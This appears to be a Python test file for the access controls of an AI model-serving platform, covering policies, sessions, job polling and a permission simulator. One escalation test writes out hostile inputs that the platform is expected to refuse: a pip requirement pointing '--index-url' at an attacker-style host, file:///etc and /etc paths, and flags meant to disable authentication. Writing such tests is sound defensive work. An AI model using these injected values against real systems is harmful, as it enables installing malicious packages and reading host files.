        await house.user("ben", policy(allow("zstack:*", "eas:*"), workspace="wb"))
        model = {"name": "s", "installPath": "w", "modelCenterUuid": center, "shareMode": "Public"}
        await house.user("owner", policy(allow("zstack:*Model", "zstack:*Models")))
        public = (await house.rpc("owner", "AddModel", model)).body["inventory"]["uuid"]
        deploy = {
            "uuid": uuid, "zoneUuid": zone, "name": "bens_secret", "type": "Container",
            "projectUuid": "wb", "modelUuid": public,
        }  # fmt: skip
        assert (await house.rpc("ben", "DeployModelService", deploy)).code == "OK"
        refused = await house.rpc("owner", "DeleteModel", {"uuid": public})
        assert refused.code == "SYS.1006"
        assert "bens_secret" not in str(refused.body)
        assert "1 ModelServiceInstanceGroupVO" in refused.body["error"]["details"]

    play(scene)


# --- the account's alone -----------------------------------------------------------------------------


def test_what_is_the_accounts_alone_no_policy_gives_away(play: Callable[[Scene], None]) -> None:
    """Law: no escalation by `system:true`, host paths, open endpoints, or options of pip."""

    async def scene(house: House) -> None:
        center = (await house.rpc("root", "QueryModelCenter")).body["inventories"][0]["uuid"]
        zone = (await house.rpc("root", "QueryZone")).body["inventories"][0]["uuid"]
        await house.user("anna", shipped(FULL))
        template = {
            "name": "t", "yaml": "", "modelCenterUuid": center, "requestCpu": 1,
            "requestMemory": 1024, "installPath": "t", "startCommand": "sleep 9",
        }  # fmt: skip
        data = {"name": "d", "url": "d", "modelCenterUuid": center}
        model = {"name": "m", "installPath": "m", "modelCenterUuid": center}
        own = (await house.rpc("anna", "AddModelService", template)).body["inventory"]["uuid"]
        deploy = {"uuid": own, "zoneUuid": zone, "name": "open_one", "type": "Container"}
        made = (await house.rpc("anna", "DeployModelService", {**deploy, "name": "shut"})).body[
            "inventory"
        ]
        tag = {"resourceType": GROUP, "resourceUuid": made["uuid"], "tag": "ai::auth::none"}
        shut = await house.rpc("anna", "CreateSystemTag", {**tag, "tag": "ai::auth::token"})
        change = {"uuid": shut.body["inventory"]["uuid"], "tag": "ai::auth::none"}
        pip = "services: []\npython: {requirements_txt: '--index-url http://evil.example/ six'}"
        risky = {**template, "yaml": pip}
        risky_uuid = (await house.rpc("anna", "AddModelService", risky)).body["inventory"]["uuid"]
        attempts: list[tuple[str, dict[str, Any]]] = [
            ("AddModelService", {**template, "system": True}),
            ("CloneModelService", {"uuid": own, "system": True}),
            ("CreateDataset", {**data, "system": True}),
            ("AddModel", {**model, "installPath": "/etc"}),
            ("AddModelService", {**template, "installPath": "/etc"}),
            ("CreateDataset", {**data, "url": "file:///etc"}),
            (
                "AddModelCenter",
                {"name": "c", "url": "file:///etc", "managementIp": "1.1.1.1", "managementPort": 1},
            ),
            ("UpdateModelCenter", {"uuid": center, "url": "file:///etc"}),
            ("DeployModelService", {**deploy, "systemTags": ["ai::auth::none"]}),
            ("CreateSystemTag", tag),
            ("UpdateSystemTag", change),
            ("DeployModelService", {**deploy, "uuid": risky_uuid}),
        ]
        for api, params in attempts:
            said = await house.rpc("anna", api, params)
            assert said.code == "ID.1002", (api, params, said.body)
        groups = (await house.rpc("root", QUERY_GROUPS)).body["inventories"]
        assert [row["name"] for row in groups] == ["shut"]
        found = (await house.rpc("root", "UpdateSystemTag", change)).code
        assert found == "OK", "the account may"

    play(scene)


def test_ones_own_login_needs_no_policy_and_anothers_is_the_accounts(
    play: Callable[[Scene], None],
) -> None:
    async def scene(house: House) -> None:
        await house.user("nobody")
        assert not (await house.rpc("nobody", "QueryZone")).allowed
        assert (await house.rpc("nobody", "ValidateSession", {"sessionUuid": "x"})).code == "OK"
        assert (await house.rpc("nobody", "LogOut", {"sessionUuid": "x"})).code == "OK"
        renewed = await house.rpc("nobody", "RenewSession", {"sessionUuid": "root"})
        assert renewed.code == "ID.1002"
        assert "a login of somebody else" in renewed.body["error"]["details"]

    play(scene)


# --- what is told beside the lists --------------------------------------------------------------------


def test_logs_and_events_are_for_who_may_read_them(play: Callable[[Scene], None]) -> None:
    async def scene(house: House) -> None:
        made = await house.service("chat_one")
        event = Event(T0, made.id, made.name, "Normal", "Secret", "told to few", "x", "")
        await house.world.db.write(event_rows.append, event)
        await house.user(
            "anna", policy(allow("eas:DescribeServiceEvent", on=f"{EAS}:service/chat_one"))
        )
        await house.user("ben", policy(allow("eas:DescribeServiceLog", on=f"{EAS}:service/chat_*")))
        events, logs = f"{LOCAL}/chat_one/events", f"{LOCAL}/chat_one/logs"
        answer = await house.eas("anna", "GET", f"{events}?StartTime=2026-01-01")
        assert [row["Reason"] for row in answer.body["Events"]] == ["Secret"]
        assert (await house.eas("ben", "GET", logs)).code == "OK"
        assert not (await house.eas("ben", "GET", events)).allowed
        assert not (await house.eas("anna", "GET", logs)).allowed

    play(scene)


def test_a_job_is_told_to_who_knows_its_id_without_secrets(play: Callable[[Scene], None]) -> None:
    """The wire has it so: clients poll without credentials. An id of another's job does nothing."""

    async def scene(house: House) -> None:
        center = (await house.rpc("root", "QueryModelCenter")).body["inventories"][0]["uuid"]
        zone = (await house.rpc("root", "QueryZone")).body["inventories"][0]["uuid"]
        template = (await house.rpc("root", "QueryModelService")).body["inventories"][0]["uuid"]
        await house.user("anna", shipped(FULL))
        await house.user("ben", shipped(FULL))
        await house.user("nobody")
        job, body = (
            "j" * 32,
            {"deployModelService": {"zoneUuid": zone, "name": "one", "type": "Container"}},
        )
        path = f"/ai/model-services/{template}"
        assert (await house.rest("anna", "PUT", path, body, x_job_uuid=job)).status == 202
        told = await house.rest("", "GET", f"/api-jobs/{job}")
        assert told.body["inventory"]["name"] == "one"
        assert told.body["inventory"]["accessToken"] is None
        again = await house.rest("ben", "PUT", path, body, x_job_uuid=job)
        assert (again.status, again.body["text"]) == (400, f"Duplicate job uuid[{job}]")
        refused = await house.rest("nobody", "PUT", path, body, x_job_uuid="k" * 32)
        assert refused.code == "ID.1002"
        assert (await house.rest("", "GET", f"/api-jobs/{'k' * 32}")).status == 404, (
            "no row for them"
        )
        groups = (await house.rpc("root", QUERY_GROUPS)).body["inventories"]
        assert [row["name"] for row in groups] == ["one"]
        assert center

    play(scene)


# --- what would be said -------------------------------------------------------------------------------


def test_a_simulation_says_what_the_door_would_and_who_said_it(
    play: Callable[[Scene], None],
) -> None:
    async def scene(house: House) -> None:
        made = await house.service("chat_one", workspace="wa", labels={"team": "red"})
        red = {"StringEquals": {"acs:ResourceTag/team": "red"}}
        blue = {"StringEquals": {"acs:ResourceTag/team": "blue"}}
        await house.user(
            "anna",
            policy(allow("eas:*", on=f"{EAS}:service/chat_*")),
            policy(allow("eas:Describe*", Condition=blue), deny("eas:Stop*", Condition=red)),
            policy(deny("eas:Start*"), workspace="wb"),
        )
        short = f"eas-m-{made.id[:18]}"
        for resource in (
            "service/chat_one",
            f"service/{short}",
            f"acs:eas:local:{ACCOUNT}:service/{made.id}",
            f"acs:zstack:local:{ACCOUNT}:{GROUP}/{made.id}",
        ):
            for action, allowed in (
                ("eas:DescribeService", True),
                ("eas:StopService", False),
                ("eas:StartService", True),
                ("eas:DeleteService", True),
            ):
                found = await simulate(house.permission, Question("anna", action, resource))
                assert found.decision.allowed is allowed, (resource, action)
                assert found.workspace == "wa"
                assert found.context == {"acs:ResourceTag/team": "red"}
        found = await simulate(
            house.permission, Question("user/anna", "eas:StopService", "service/chat_one")
        )
        assert (found.decision.policy, found.decision.statement) == ("p2", 2)
        assert [(one.policy, one.statement, one.effect, one.applies) for one in found.spoken] == [
            ("p1", 1, "Allow", True),
            ("p2", 2, "Deny", True),
        ]
        looked = await simulate(
            house.permission, Question("anna", "eas:DescribeService", "service/chat_one")
        )
        assert [(one.policy, one.object, one.held) for one in looked.spoken] == [
            ("p1", True, True),
            ("p2", True, False),
        ]
        wb = Question("anna", "eas:StartService", "service/chat_new", workspace="wb")
        assert not (await simulate(house.permission, wb)).decision.allowed
        for who in ("root", ACCOUNT, f"acs:ram::{ACCOUNT}:root"):
            assert (
                await simulate(house.permission, Question(who, "eas:StopService", "*"))
            ).decision.allowed
        await house.role("ops", policy(allow("eas:Stop*")))
        for who in ("role/ops", f"acs:ram::{ACCOUNT}:role/ops"):
            found = await simulate(
                house.permission, Question(who, "eas:StopService", "service/none")
            )
            assert found.decision.allowed
        from_home = {"IpAddress": {"acs:SourceIp": "10.0.0.0/8"}}
        await house.user("ben", policy(allow("*", Condition=from_home)))
        for address, allowed in (("10.1.1.1", True), ("9.9.9.9", False)):
            asked = Question("ben", "eas:ListServices", "service/*", {"acs:SourceIp": address})
            assert (await simulate(house.permission, asked)).decision.allowed is allowed
        with pytest.raises(NotFound):
            await simulate(house.permission, Question("carl", "eas:StopService", "*"))
        for bad in (
            Question("anna", "eas:*", "*"),
            Question("anna", "Stop", "*"),
            Question("anna", "eas:X", "acs:x"),
        ):
            with pytest.raises(Invalid):
                await simulate(house.permission, bad)

    play(scene)
